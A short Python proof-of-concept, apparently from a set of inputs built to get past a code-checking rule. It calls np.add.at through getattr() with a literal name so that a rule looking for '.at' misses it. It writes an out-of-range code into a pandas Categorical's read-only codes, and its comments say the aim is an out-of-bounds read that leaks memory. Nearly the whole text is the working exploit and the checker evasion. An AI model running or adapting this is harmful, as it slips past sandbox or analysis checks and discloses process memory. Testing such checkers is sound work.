# source: numpy 1.24 ufunc.at (numpy/core/src/umath/ufunc_object.c ufunc_at: it writes through the array without testing WRITEABLE) and pandas Categorical.codes ("read-only view"); getattr() with a literal name handed np.add.at over unread by the rule on .at
# family: a method whose call a rule reads (np.add.at, a.resize(), a.sort(), a.view(dtype)), taken with getattr(x, "name") and called where the check does not look
# goal: a code past the categories written into the read-only codes; list(c) takes it without a bound check -> out-of-bounds read (a string from elsewhere in memory)
import json

import numpy as np
import pandas as pd

c = pd.Categorical(["a", "b", "a"])
at = getattr(np.add, "at")
at(c.codes, [0], 100)
print(json.dumps({"value": str(list(c))[:40]}))
